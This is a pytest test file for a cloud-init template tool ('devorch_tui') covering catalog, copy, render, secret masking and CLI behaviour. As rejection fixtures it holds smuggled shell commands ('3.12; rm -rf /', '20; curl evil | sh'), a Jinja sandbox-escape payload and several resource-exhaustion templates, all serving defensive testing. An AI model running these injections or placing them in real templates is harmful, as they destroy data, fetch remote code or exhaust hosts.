"""Template catalog, copy, values, render and workspace init, against the shipped examples."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest
import yaml

from devorch_tui.config import Workspace
from devorch_tui.errors import WorkspaceError
from devorch_tui.services import templates
from devorch_tui.services.envfile import EnvFile
from devorch_tui.services.secrets import MASK
from devorch_tui.services.templates import EnvValuesError, TemplateError

REPO = Path(__file__).resolve().parents[2]
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIH8fmxB3hyKmJ36jbvsFCMJrPEz6nq8Y8bk6qGW7PBRm dev@host"
GOOD_VALUES = {"GIT_NAME": "Ada Lovelace", "GIT_EMAIL": "ada@example.com", "SSH_PUBLIC_KEY": KEY}


@pytest.fixture
def ws(workspace: Path) -> Workspace:
    return Workspace(workspace)


def fill_env(ws: Workspace, **values: str) -> None:
    env = EnvFile.load(ws.env_file)
    env.update(values)
    env.save(ws.env_file)


def test_catalog_lists_the_shipped_examples_with_descriptions_and_verify_commands() -> None:
    catalog = {template.name: template for template in templates.catalog()}
    assert set(catalog) == {"python", "nodejs"}
    python, node = catalog["python"], catalog["nodejs"]
    assert "Python 3.12" in python.description and "uv" in python.description
    assert "Node.js 20" in node.description and "pnpm" in node.description
    assert ["uv", "--version"] in python.verify_commands
    assert ["ruff", "--version"] in python.verify_commands
    assert ["pnpm", "--version"] in node.verify_commands
    assert ["tsc", "--version"] in node.verify_commands
    for template in catalog.values():
        assert template.ready_marker == "/var/lib/devorch/ready"
        assert ["podman", "--version"] in template.verify_commands
        assert ["git", "--version"] in template.verify_commands


@pytest.mark.parametrize("name", ["python", "nodejs"])
def test_every_example_documents_the_core_variables_and_its_extras(name: str) -> None:
    template = templates.get_template(name)
    example = EnvFile.load(template.env_example)
    for variable in (*templates.CORE_VARIABLES, *template.rules):
        assert variable in example, variable
        assert example.describe(variable), f"{variable} has no description in {name}/.env.example"
    used = templates.template_variables(template.template_file.read_text())
    assert set(used) <= set(example.keys())


def test_top_level_templates_folder_ships_the_python_example() -> None:
    python = templates.get_template("python")
    assert (REPO / "templates" / "cloud-init.j2").read_text() == python.template_file.read_text()
    for name in templates.TEMPLATE_FILES:
        assert (REPO / "templates" / name).read_text() == (python.path / name).read_text(), name


def test_unknown_template_names_the_choices() -> None:
    with pytest.raises(TemplateError) as info:
        templates.get_template("rust")
    assert "'rust'" in info.value.message
    assert "nodejs" in info.value.hint and "python" in info.value.hint


def test_copy_into_an_empty_workspace_then_again_is_a_no_op(ws: Workspace) -> None:
    result = templates.copy_template("python", ws)
    assert not result.unchanged and result.backup is None
    assert {path.name for path in result.written} == set(templates.TEMPLATE_FILES)
    assert ws.template_file.read_text() == templates.get_template("python").template_file.read_text()
    again = templates.copy_template("python", ws)
    assert again.unchanged and again.written == []
    active = templates.active_template(ws)
    assert active.source == "python" and not active.modified


def test_switching_between_unedited_templates_needs_no_force_but_keeps_a_backup(ws: Workspace) -> None:
    templates.copy_template("python", ws)
    result = templates.copy_template("nodejs", ws)
    assert result.template.name == "nodejs"
    assert result.backup is not None and (result.backup / "cloud-init.j2").read_text().startswith("#cloud-config")
    assert "python" in (result.backup / "template.toml").read_text()


def test_copy_refuses_to_overwrite_edits_without_force_and_backs_them_up_with_force(ws: Workspace) -> None:
    templates.copy_template("python", ws)
    edited = ws.template_file.read_text() + "# my edit\n"
    ws.template_file.write_text(edited)
    assert templates.active_template(ws).modified
    plan = templates.copy_plan("nodejs", ws)
    assert plan.edited == ["cloud-init.j2"]
    with pytest.raises(TemplateError) as info:
        templates.copy_template("nodejs", ws)
    assert "cloud-init.j2" in info.value.message and "--force" in info.value.hint
    assert ws.template_file.read_text() == edited  # untouched
    result = templates.copy_template("nodejs", ws, force=True)
    assert result.backup is not None
    assert (result.backup / "cloud-init.j2").read_text() == edited
    assert result.backup.parent == ws.root / templates.BACKUPS_DIR
    assert templates.active_template(ws).source == "nodejs"


def test_copy_over_a_template_of_unknown_origin_counts_as_edits(ws: Workspace) -> None:
    ws.templates_dir.mkdir()
    ws.template_file.write_text("#cloud-config\n{}\n")
    with pytest.raises(TemplateError):
        templates.copy_template("python", ws)


def test_check_value_uses_the_shared_rules_and_template_patterns() -> None:
    python = templates.get_template("python")
    assert templates.check_value("VM_NAME", "dev-1") is None
    assert templates.check_value("VM_NAME", "bad_name").field == "VM_NAME"
    assert "minimum" in templates.check_value("VM_MEMORY", "256M").reason
    assert templates.check_value("VM_DISK", "1G") is None
    assert templates.check_value("VM_CPUS", "0") is not None
    assert templates.check_value("GIT_EMAIL", "nope") is not None
    assert templates.check_value("SSH_PUBLIC_KEY", KEY) is None
    assert "PRIVATE" in templates.check_value("SSH_PUBLIC_KEY", "-----BEGIN OPENSSH PRIVATE KEY-----").reason
    assert templates.check_value("PYTHON_VERSION", "3.12", python) is None
    assert templates.check_value("PYTHON_VERSION", "3.12; rm -rf /", python) is not None
    assert templates.check_value("ANYTHING", "free text") is None
    # Empty is never wrong, only missing when something needs it (the one rule for "missing").
    for name in ("VM_DISK", "VM_CPUS", "GIT_NAME", "SSH_PUBLIC_KEY", "PYTHON_VERSION"):
        assert templates.check_value(name, "", python) is None
    assert templates.needed_for("GIT_NAME", used=True) == "needed to render"
    assert templates.needed_for("VM_NAME", used=False) == "needed to build the golden image"
    assert templates.needed_for("VM_DISK", used=False) is None


def test_a_template_rule_never_puts_a_secret_value_in_its_message(ws: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
    """The audit's repro: template.toml rule on DB_PASSWORD, the template uses it, .env breaks the rule."""
    import json

    templates.init_workspace(ws, "python")
    manifest = ws.templates_dir / "template.toml"
    manifest.write_text(manifest.read_text() + '\n[variables.DB_PASSWORD]\npattern = "[a-z]{4,}"\n')
    ws.template_file.write_text(ws.template_file.read_text() + "# db: {{ DB_PASSWORD }}\n")
    fill_env(ws, **GOOD_VALUES, DB_PASSWORD="Hunter2-SECRET", PUBLIC_NAME="Hunter3-public")
    manifest.write_text(manifest.read_text() + '[variables.PUBLIC_NAME]\npattern = "[a-z]+"\n')
    template = templates.workspace_template(ws)
    error = templates.check_value("DB_PASSWORD", "Hunter2-SECRET", template)
    assert error is not None and "Hunter2" not in str(error) and "Hunter2" not in (error.hint or "")
    assert "Hunter3-public" in str(templates.check_value("PUBLIC_NAME", "Hunter3-public", template))  # public: shown
    with pytest.raises(EnvValuesError) as info:
        templates.render(ws)
    assert "DB_PASSWORD" in info.value.message and "Hunter2" not in info.value.describe()
    for argv in (["templates", "render"], ["templates", "show"], ["templates", "show", "--json"]):
        code, out, err = run_cli(capsys, "-w", str(ws.root), *argv)
        assert code == 1 and "DB_PASSWORD" in out + err and "Hunter2" not in out + err, argv
    shown = json.loads(run_cli(capsys, "-w", str(ws.root), "templates", "show", "--json")[1])
    problem = next(variable["problem"] for variable in shown["variables"] if variable["name"] == "DB_PASSWORD")
    assert problem and "Hunter2" not in problem


def test_render_errors_never_carry_a_secret_value() -> None:
    values = {**GOOD_VALUES, "API_TOKEN": "tok-Hunter2-SECRET"}
    for source in (
        "{{ API_TOKEN }}\n#cloud-config\n",  # the header check quotes the first line
        "#cloud-config\nx: {{ API_TOKEN + 1 }}\n",
        "#cloud-config\nx: {{ API_TOKEN }}: {{ API_TOKEN }}: y\n",  # the YAML error
    ):
        with pytest.raises(TemplateError) as info:
            templates.render_text(source, values)
        assert "Hunter2" not in info.value.message and "Hunter2" not in (info.value.hint or ""), source


@pytest.mark.parametrize(
    ("tag", "source"),
    [
        ("include", "{% include 'extra.j2' %}"),
        ("import", "{% import 'macros.j2' as m %}"),
        ("from ... import", "{% from 'macros.j2' import quote %}"),
        ("extends", "{% extends 'base.j2' %}"),
    ],
)
def test_tags_that_read_other_files_are_refused_with_their_line(ws: Workspace, tag: str, source: str) -> None:
    """Without a loader jinja2 raised TypeError (a traceback); a template is one file."""
    with pytest.raises(TemplateError) as info:
        templates.render_text(f"#cloud-config\n\n{source}\nx: 1\n", GOOD_VALUES)
    assert f"{{% {tag} %}} is not supported" in info.value.message and info.value.line == 3
    assert "macro" in info.value.hint
    templates.init_workspace(ws, "python")
    fill_env(ws, **GOOD_VALUES)
    ws.template_file.write_text(f"#cloud-config\n{source}\n")
    for call in (lambda: templates.render(ws), lambda: templates.variables(ws)):
        with pytest.raises(TemplateError, match=r"templates/cloud-init.j2:2|cloud-init.j2:2"):
            call()


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("{{ range(10**9)|list }}", "range() of 1,000,000,000 items"),
        ("{{ 'a' * 10**10 }}", "repeated 10,000,000,000 times"),
        ("{{ [0] * 10**9 }}", "a list repeated"),
        ("{{ 2 ** (10**9) }}", "too big a number"),
        ("{{ 'a'|center(10**10) }}", "center()"),
        ("{{ '%9999999999s' % 'a' }}", "the width 9999999999"),
        ("{{ '{:>9999999999}'.format('a') }}", "the width 9999999999"),
        ("{{ range(100000)|join('a' * 999999) }}", "join()"),
        ("{% set ns = namespace(s='ab') %}{% for i in range(60) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "a str would be"),
        ("{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}", "more than 1,000,000 steps"),
        ("{% for i in range(20000) %}{{ 'x' * 100 }}{% endfor %}", "the rendered text"),
        ("{% macro f(n) %}{{ f(n + 1) }}{% endmacro %}{{ f(1) }}", "a macro keeps calling itself"),
    ],
)
def test_runaway_templates_end_in_a_message_with_their_line(body: str, why: str) -> None:
    import time

    started = time.monotonic()
    with pytest.raises(TemplateError) as info:
        templates.render_text(f"#cloud-config\n# header\n{body}\nx: 1\n", GOOD_VALUES)
    assert why in info.value.message
    if "rendered text" not in why:  # the output limit is about the whole file
        assert info.value.line == 3 and "cloud-init.j2:3" in info.value.message
    assert time.monotonic() - started < 20  # bounded work, not a hang


def test_any_exception_of_a_template_expression_is_a_template_error() -> None:
    with pytest.raises(TemplateError, match=r"cloud-init.j2:3: ZeroDivisionError"):
        templates.render_text("#cloud-config\n\nx: {{ 1 // 0 }}\n", GOOD_VALUES)


def test_the_limits_leave_ordinary_templates_alone() -> None:
    source = (
        "#cloud-config\n{% macro q(v) %}{{ v|yaml_quote }}{% endmacro %}\nname: {{ q(GIT_NAME) }}\n"
        "runcmd:\n{% for i in range(3) %}  - {{ ['echo', i|string]|join(' ')|yaml_quote }}\n{% endfor %}"
        "size: {{ '%d' % (4 * 1024 ** 3) }}\nline: {{ '-' * 40 }}\n"
    )
    data = yaml.safe_load(templates.render_text(source, GOOD_VALUES))
    assert data["name"] == "Ada Lovelace" and data["runcmd"] == ["echo 0", "echo 1", "echo 2"] and data["size"] == 4 * 1024**3


def test_render_names_every_undefined_variable_and_its_line(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    with pytest.raises(TemplateError) as info:
        templates.render(ws)
    message = info.value.message
    source = ws.template_file.read_text().splitlines()
    for name in ("SSH_PUBLIC_KEY", "GIT_NAME", "GIT_EMAIL"):
        assert name in message
    line = info.value.line
    assert line is not None and "SSH_PUBLIC_KEY" in source[line - 1]
    assert "set SSH_PUBLIC_KEY" in info.value.hint
    assert not ws.rendered.exists()


def test_render_validates_env_values_first(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    fill_env(ws, **{**GOOD_VALUES, "GIT_EMAIL": "not-an-email", "VM_MEMORY": "100M", "VM_NAME": "under_score"})
    with pytest.raises(EnvValuesError) as info:
        templates.render(ws)
    assert {error.field for error in info.value.errors} == {"GIT_EMAIL", "VM_MEMORY", "VM_NAME"}
    assert "GIT_EMAIL" in info.value.message and info.value.hint
    assert not ws.rendered.exists()


def test_render_writes_0600_cloud_config_with_values_quoted_safely(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    tricky_name = 'O\'Brien "Bob": #1 {x} - [y] \\ é'
    fill_env(ws, **{**GOOD_VALUES, "GIT_NAME": tricky_name})
    result = templates.render(ws)
    assert result.path == ws.rendered
    text = ws.rendered.read_text()
    assert text.startswith("#cloud-config\n")
    assert stat.S_IMODE(ws.rendered.stat().st_mode) == 0o600
    data = yaml.safe_load(text)
    assert data["ssh_authorized_keys"] == [KEY]
    git_commands = [command for command in data["runcmd"] if isinstance(command, list) and "git" in command]
    assert [*git_commands[0][-2:]] == ["user.name", tricky_name]
    assert git_commands[1][-1] == "ada@example.com"
    assert "python3.12" in data["packages"]
    assert result.sha256 == templates.rendered_hash(text)
    assert result.changed
    again = templates.render(ws)
    assert again.sha256 == result.sha256 and not again.changed


def test_render_check_writes_nothing(ws: Workspace) -> None:
    templates.init_workspace(ws, "nodejs")
    fill_env(ws, **GOOD_VALUES)
    result = templates.render(ws, write=False)
    assert result.path is None and not ws.rendered.exists()
    assert "deb.nodesource.com/node_20.x" in result.text


def test_template_pattern_blocks_injection_through_extras(ws: Workspace) -> None:
    templates.init_workspace(ws, "nodejs")
    fill_env(ws, **GOOD_VALUES, NODE_MAJOR="20; curl evil | sh")
    with pytest.raises(EnvValuesError) as info:
        templates.render(ws)
    assert info.value.errors[0].field == "NODE_MAJOR"


def test_syntax_error_names_file_and_line(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    fill_env(ws, **GOOD_VALUES)
    ws.template_file.write_text("#cloud-config\npackages:\n  - {{ GIT_NAME \n")
    with pytest.raises(TemplateError) as info:
        templates.render(ws)
    assert "templates/cloud-init.j2:3" in info.value.message
    assert info.value.line == 3
    with pytest.raises(TemplateError) as shown:  # `templates show` names it the same way
        templates.variables(ws)
    assert "templates/cloud-init.j2:3" in shown.value.message


def test_unknown_filter_and_bad_yaml_and_missing_header_are_messages(ws: Workspace) -> None:
    values = dict(GOOD_VALUES)
    with pytest.raises(TemplateError, match=r"cloud-init.j2:2: No filter named"):
        templates.render_text("#cloud-config\nx: {{ GIT_NAME | nosuchfilter }}\n", values)
    with pytest.raises(TemplateError) as info:
        templates.render_text("#cloud-config\nkey: {{ GIT_NAME }}\n  bad: indent: here\n", values)
    assert "not valid YAML" in info.value.message and info.value.line == 3
    with pytest.raises(TemplateError, match="must start with '#cloud-config'"):
        templates.render_text("packages: []\n", values)
    with pytest.raises(TemplateError, match="not a YAML mapping"):
        templates.render_text("#cloud-config\n- a\n", values)


def test_sandbox_blocks_unsafe_template_code() -> None:
    with pytest.raises(TemplateError, match="unsafe"):
        templates.render_text("#cloud-config\nx: {{ GIT_NAME.__class__.__mro__[1].__subclasses__() }}\n", GOOD_VALUES)


def test_undefined_attribute_at_render_time_names_the_line() -> None:
    with pytest.raises(TemplateError) as info:
        templates.render_text("#cloud-config\n\nx: {{ GIT_NAME.nothing.deeper }}\n", GOOD_VALUES)
    assert info.value.line == 3


def test_variables_lists_values_sources_lines_missing_and_masks_secrets(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    fill_env(ws, GIT_NAME="Ada", API_TOKEN="s3cr3t-value")
    variables = {variable.name: variable for variable in templates.variables(ws)}
    assert list(variables)[0] == "PYTHON_VERSION"  # template order first
    assert variables["GIT_NAME"].value == "Ada" and variables["GIT_NAME"].source == ".env"
    assert variables["GIT_NAME"].used and variables["GIT_NAME"].lines
    assert variables["GIT_EMAIL"].missing
    assert not variables["VM_NAME"].used and not variables["VM_NAME"].missing
    assert not variables["VM_DISK"].missing  # empty would mean multipass's default
    assert variables["API_TOKEN"].secret and variables["API_TOKEN"].display_value == MASK
    assert variables["API_TOKEN"].as_dict()["value"] == MASK
    assert "s3cr3t" not in str([variable.as_dict() for variable in variables.values()])
    assert variables["GIT_NAME"].description == "Your name as it appears in commits."
    ws.env_file.unlink()
    variables = {variable.name: variable for variable in templates.variables(ws)}
    assert variables["VM_CPUS"].source == ".env.example"


def test_variables_of_a_broken_template_fall_back_without_claiming_not_used(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    good = {variable.name: variable for variable in templates.variables(ws)}
    ws.template_file.write_text(ws.template_file.read_text() + "{{ broken\n")
    with pytest.raises(TemplateError, match="syntax error"):
        templates.variables(ws)
    guessed = {variable.name: variable for variable in templates.variables(ws, strict=False)}
    assert all(not variable.usage_known for variable in guessed.values())
    assert guessed["GIT_EMAIL"].used and guessed["GIT_EMAIL"].missing  # from .env.example
    assert not guessed["VM_CPUS"].used  # the launch variables are not the template's
    last = {name: variable.lines for name, variable in good.items() if variable.used}
    remembered = {variable.name: variable for variable in templates.variables(ws, strict=False, fallback_used=last)}
    assert remembered["GIT_NAME"].lines == good["GIT_NAME"].lines and remembered["GIT_NAME"].used


def test_empty_launch_values_do_not_block_a_render(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    fill_env(ws, **GOOD_VALUES, VM_DISK="", VM_CPUS="")
    assert templates.render(ws, write=False).text.startswith("#cloud-config")
    fill_env(ws, VM_DISK="lots")
    with pytest.raises(EnvValuesError, match="VM_DISK"):
        templates.render(ws, write=False)


def test_malformed_env_is_reported_with_its_line(ws: Workspace) -> None:
    templates.init_workspace(ws, "python")
    ws.env_file.write_text(ws.env_file.read_text() + "oops no equals\n")
    with pytest.raises(templates.DevorchError, match=r"\.env:\d+: expected KEY=value"):
        templates.render(ws)


def test_init_creates_templates_and_env_0600_and_refuses_non_empty_templates(tmp_path: Path) -> None:
    ws = Workspace(tmp_path / "new" / "project")
    result = templates.init_workspace(ws, "nodejs")
    assert result.env_created
    assert ws.template_file.is_file() and ws.env_example.is_file()
    assert stat.S_IMODE(ws.env_file.stat().st_mode) == 0o600
    assert ws.env_file.read_text() == templates.get_template("nodejs").env_example.read_text()
    ws.env_file.write_text("GIT_NAME=Mine\n")
    with pytest.raises(WorkspaceError, match="not empty"):
        templates.init_workspace(ws, "python")
    forced = templates.init_workspace(ws, "python", force=True)
    assert forced.backup is not None and not forced.env_created
    assert ws.env_file.read_text() == "GIT_NAME=Mine\n"  # an existing .env is never replaced
    assert templates.active_template(ws).source == "python"


def test_init_in_an_unwritable_place_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(WorkspaceError) as info:
        templates.init_workspace(Workspace(blocker / "sub"), "python")
    assert "cannot create" in info.value.message and info.value.hint


def test_init_on_a_file_says_it_is_not_a_folder(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(WorkspaceError) as info:
        templates.init_workspace(Workspace(blocker), "python")
    assert info.value.message == f"{blocker} is a file, not a folder" and "folder path" in info.value.hint
    assert blocker.read_text() == "x"


def test_a_templates_file_in_the_way_is_named(ws: Workspace) -> None:
    ws.templates_dir.write_text("not a folder")
    for call in (lambda: templates.copy_template("python", ws), lambda: templates.init_workspace(ws, "python")):
        with pytest.raises(WorkspaceError) as info:
            call()
        assert "templates is a file, not a folder" in info.value.message and "rename or move" in info.value.hint


def test_workspace_template_without_a_template_says_how_to_get_one(ws: Workspace) -> None:
    with pytest.raises(TemplateError) as info:
        templates.workspace_template(ws)
    assert "templates copy" in info.value.hint


def test_a_missing_workspace_is_named_and_nothing_is_created_there(tmp_path: Path) -> None:
    """A mistyped -w: render, show and copy say the workspace does not exist, and copy creates nothing."""
    missing = Workspace(tmp_path / "typo")
    for attempt in (lambda: templates.render(missing), lambda: templates.variables(missing), lambda: templates.copy_template("python", missing)):
        with pytest.raises(TemplateError) as info:
            attempt()
        assert f"the workspace {missing.root} does not exist" in info.value.message
        assert f"devorch-tui init {missing.root}" in info.value.hint
    assert not missing.root.exists()


def test_broken_manifest_is_a_message(ws: Workspace) -> None:
    templates.copy_template("python", ws)
    (ws.templates_dir / "template.toml").write_text('name = "x"\nverify = [\n')
    with pytest.raises(TemplateError, match="not valid TOML"):
        templates.workspace_template(ws)


# ----- the headless commands ---------------------------------------------------------------------------

def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    from devorch_tui.cli import main

    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_init_list_copy_render_show(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import json

    root = tmp_path / "proj"
    code, out, _ = run_cli(capsys, "init", str(root))
    assert code == 0 and "ready with template 'python'" in out
    assert stat.S_IMODE((root / ".env").stat().st_mode) == 0o600
    code, _, err = run_cli(capsys, "init", str(root))
    assert code != 0 and "error:" in err and "--force" in err and "Traceback" not in err

    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "list", "--json")
    listed = {entry["name"]: entry for entry in json.loads(out)}
    assert listed["python"]["active"] and not listed["nodejs"]["active"]
    assert listed["nodejs"]["description"]

    code, out, err = run_cli(capsys, "-w", str(root), "templates", "render")
    assert code != 0 and "undefined variables" in err and "line" in err

    env = EnvFile.load(root / ".env")
    env.update({**GOOD_VALUES, "DEPLOY_TOKEN": "tok-123456"})
    env.save()
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "render", "--check")
    assert code == 0 and "ok:" in out and not (root / "cloud-init.yaml").exists()
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "render")
    assert code == 0 and "wrote" in out and (root / "cloud-init.yaml").is_file()

    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "show", "--json")
    shown = json.loads(out)
    assert code == 0 and shown["template"]["name"] == "python" and shown["missing"] == []
    by_name = {variable["name"]: variable for variable in shown["variables"]}
    assert by_name["DEPLOY_TOKEN"]["value"] == MASK and "tok-123456" not in out
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "show")
    assert "GIT_EMAIL" in out and "tok-123456" not in out

    code, out, err = run_cli(capsys, "-w", str(root), "templates", "copy", "nodejs")
    assert code == 0 and "previous files kept" in out
    (root / "templates" / "cloud-init.j2").write_text("#cloud-config\n")
    code, out, err = run_cli(capsys, "-w", str(root), "templates", "copy", "python")
    assert code != 0 and "edited" in err
    code, out, err = run_cli(capsys, "-w", str(root), "templates", "copy", "nope")
    assert code != 0 and "no template named 'nope'" in err


def test_cli_list_marks_the_active_template_consistently(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = tmp_path / "proj"
    run_cli(capsys, "init", str(root))
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "list")
    starred = [line for line in out.splitlines() if line.startswith("* ")]
    assert code == 0 and len(starred) == 2 and starred[0].startswith("* python") and "* = active in" in starred[1]
    manifest = root / "templates" / "template.toml"
    manifest.write_text(manifest.read_text().replace('name = "python"', 'name = "mine"'))
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "list")
    assert code == 0 and not any(line.startswith("*") for line in out.splitlines())
    assert "'mine', a custom template" in out


def test_cli_init_on_a_file_and_keygen_hint(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    code, _, err = run_cli(capsys, "init", str(blocker))
    assert code == 1 and "is a file, not a folder" in err and "File exists" not in err


def test_cli_show_reports_missing_and_invalid_with_exit_1(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = tmp_path / "proj"
    run_cli(capsys, "init", str(root))
    env = EnvFile.load(root / ".env")
    env.set("VM_CPUS", "zero")
    env.save()
    code, out, _ = run_cli(capsys, "-w", str(root), "templates", "show")
    assert code == 1
    assert "MISSING  SSH_PUBLIC_KEY" in out
    assert "INVALID  VM_CPUS" in out and "not a CPU count" in out
